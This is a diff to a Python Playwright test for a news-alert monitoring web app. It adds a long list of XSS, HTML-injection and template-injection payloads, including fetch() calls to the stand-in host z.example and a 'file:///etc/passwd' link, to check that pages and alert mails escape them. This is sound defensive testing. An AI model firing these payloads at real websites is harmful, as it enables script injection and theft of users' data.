@@ -1,17 +1,21 @@
 """The pages in a real browser: nothing is loaded from elsewhere, nothing is run, all of it works
 with the keyboard, on a phone and in both colour schemes."""
 
+import json
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field, replace
 from typing import Any
 from urllib.parse import urlsplit
+from zoneinfo import ZoneInfo
 
 import pytest
 from playwright.sync_api import Browser, Page, sync_playwright
 
+from monitor import render
 from monitor.desk import act
-from monitor.model import Withdrawal
-from monitor.store import Connection, stories
+from monitor.desk.alerts import listing
+from monitor.model import AlertView, DeliveryState, Message, MessageKind, Withdrawal
+from monitor.store import Connection, alerts, stories
 
 TOKENS = "ana:žeton-od-ane,ben:token-of-ben"
 QUIET = (
@@ -139,23 +143,118 @@ def test_signing_in_reading_an_alert_and_leaving(serve: Any, told: Any, open_tab
     assert tab.strange == []
 
 
+CALL = "fetch('http://z.example/x');alert(1)"
+HOSTILE = (
+    f"<script>{CALL}</script>",
+    f"</script><script>{CALL}</script>",
+    f"<ScRiPt >{CALL}</sCrIpT>",
+    f"<<script>{CALL}//<</script>",
+    f"<img src=x onerror={CALL}>",
+    f"<img src=http://z.example/x><img/src/onerror={CALL}>",
+    f"<svg onload={CALL}>",
+    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
+    f"<svg><script href=data:,{CALL} />",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
+    f"<body onload={CALL}>",
+    f"<details open ontoggle={CALL}>",
+    f"<input autofocus onfocus={CALL}>",
+    f"<video><source onerror={CALL}></video><audio src=http://z.example/x onerror={CALL}>",
+    f"<iframe src=\"javascript:{CALL}\"></iframe><iframe srcdoc='<script>{CALL}</script>'>",
+    f"<object data=javascript:{CALL}><embed src=http://z.example/x>",
+    f'<a href="javascript:{CALL}">ovdje</a><a href="&#106;avascript:{CALL}">ovdje</a>',
+    f"<a href='java\tscript:{CALL}'>ovdje</a><a href=data:text/html,<script>{CALL}</script>>o</a>",
+    "<base href=http://z.example/><link rel=stylesheet href=http://z.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=http://z.example/'>",
+    "<style>@import 'http://z.example/x.css';*{background:url(http://z.example/y)}</style>",
+    "<p style=\"background:url('http://z.example/x')\">",
+    f'" onmouseover={CALL} autofocus onfocus={CALL} x="',
+    f"' onfocus={CALL} autofocus x='",
+    f"`onfocus={CALL}`",
+    f"</title></head></style></textarea></noscript><script>{CALL}</script>",
+    f"--><script>{CALL}</script><!--",
+    f"<![CDATA[<script>{CALL}</script>]]>",
+    f"&lt;script&gt;{CALL}&lt;/script&gt; &amp;lt;script&amp;gt;",
+    f"%3Cscript%3E{CALL}%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e",
+    f"{{{{7*7}}}}{{%print(7*7)%}}${{7*7}}<%=7*7%>#{{7*7}}[[7*7]]%(x)s{{0.__class__}}<script>{CALL}",
+    f"\u202e<script>{CALL}</script>\u2066\u0000\u001b[2J\ufeff",
+    f"<form action=http://z.example/><button formaction=javascript:{CALL}>Sign in</button>",
+    f"<template><script>{CALL}</script></template><marquee onstart={CALL}>",
+)
+"""Ways by which text becomes markup in a page that lets it."""
+
+LINKS = (
+    f"javascript:{CALL}",
+    f"JaVaScRiPt:{CALL}",
+    f" javascript:{CALL}",
+    f"java\nscript:{CALL}",
+    f"data:text/html,<script>{CALL}</script>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "//z.example/x",
+    f'https://klix.example/"onfocus={CALL} autofocus x="',
+    f"https://klix.example/'><script>{CALL}</script>",
+)
+SCHEMES = "() => [...new Set([...document.querySelectorAll('a')].map(a => a.protocol))]"
+
+SPOILT = """\
+version: 1
+channels: {desk: {url: "webhook://127.0.0.1:9/desk"}}
+feeds: [{name: klix, url: "https://klix.example/rss", language: bs, owner: TEXT}]
+rules: [{id: roads, title: TEXT, note: TEXT, when: blokada}]
+"""
+
+
+def spoil(site: Any) -> None:
+    """Fills an archive with nothing but hostile text, each kind of it wherever a text may stand."""
+    site.poll("klix", failures=1, failing_since=site.clock(), error="".join(HOSTILE))
+    for number, link in enumerate(LINKS, 1):
+        text = "".join(HOSTILE[number - 1 :: len(LINKS)])
+        said = f"Blokada broj {number} {text} traje."
+        site.bring(number * 400, f"{number} {text}", said, url=link, english=(f"{text}.", said))
+    site.settle("desk", DeliveryState.DEAD, HOSTILE[number % len(HOSTILE)])
+
+    def write(c: Connection) -> None:
+        for number, one in enumerate(alerts.list(c, limit=100)):
+            text, now = HOSTILE[number % len(HOSTILE)], site.clock()
+            act.note(c, one.id, text, text[:60], now)
+            act.acknowledge(c, one.id, text[:60], now)
+            act.mute(c, one.id, by=text[:60], now=now, reason=text)
+
+    site.store.write_now(write)
+
+
 def test_nothing_from_outside_runs_or_loads(serve: Any, open_tab: Any) -> None:
-    site = serve()
-    hostile = (
-        "<script>document.title='zlo'</script><img src=https://evil.example/x onerror=alert(1)>"
-        "<link rel=stylesheet href=https://evil.example/x.css>\"'><svg onload=alert(1)>"
-    )
-    site.bring(1, hostile, f"Blokada puta {hostile} traje.", url="javascript:alert(1)")
-    site.poll("klix", failures=1, failing_since=site.clock(), error=hostile)
+    site = serve(rules=SPOILT.replace("TEXT", json.dumps("".join(HOSTILE[:6]))))
+    spoil(site)
     tab = open_tab(site)
     tab.page.on("dialog", lambda dialog: tab.said.append(f"dialog {dialog.message}"))
-    alert = site.ask("/api/alerts").json["alerts"][0]["id"]
-    for path in ("/", "/alerts", f"/alerts/{alert}", "/sources", "/problems"):
+    told = site.ask("/api/alerts?limit=200").json["alerts"]
+    assert len(told) == len(LINKS), "each of them is a story"
+    paths = [f"/alerts/{one['id']}" for one in told]
+    for path in ("/", "/alerts", "/sources", "/problems", *paths):
         tab.go(path)
-        assert tab.page.title().endswith(" · monitor")
-        assert "<script>" in tab.page.locator("main").inner_text()
+        assert tab.page.title().endswith(" · monitor"), path
+        assert set(tab.page.evaluate(SCHEMES)) <= {"http:", "https:"}, path
+        assert "z.example" in tab.page.locator("main").inner_text(), path
     assert tab.said == []  # a violation of the policy would be told here
     assert tab.strange == []
+    with_views = site.store.read_now(
+        lambda c: listing(c, site.app.rules, site.app.translators, limit=200)
+    )
+    mails(tab, [one.view for one in with_views])
+
+
+def mails(tab: Tab, views: list[AlertView]) -> None:
+    """The same texts in mails, in a reader that has no policy of its own."""
+    tab.page.goto("about:blank")
+    tab.asked.clear()
+    for view in views:
+        mail = Message(id="d-1", kind=MessageKind.ALERT, channel="desk", alerts=(view,))
+        tab.page.set_content(render.html(mail, ZoneInfo("Europe/Sarajevo")))
+        assert "z.example" in tab.page.locator("body").inner_text()
+        assert set(tab.page.evaluate(SCHEMES)) <= {"http:", "https:"}
+    assert tab.said == []
+    assert [url for url in tab.asked if url != "about:blank"] == []
 
 
 def work(site: Any, alert: str) -> None:
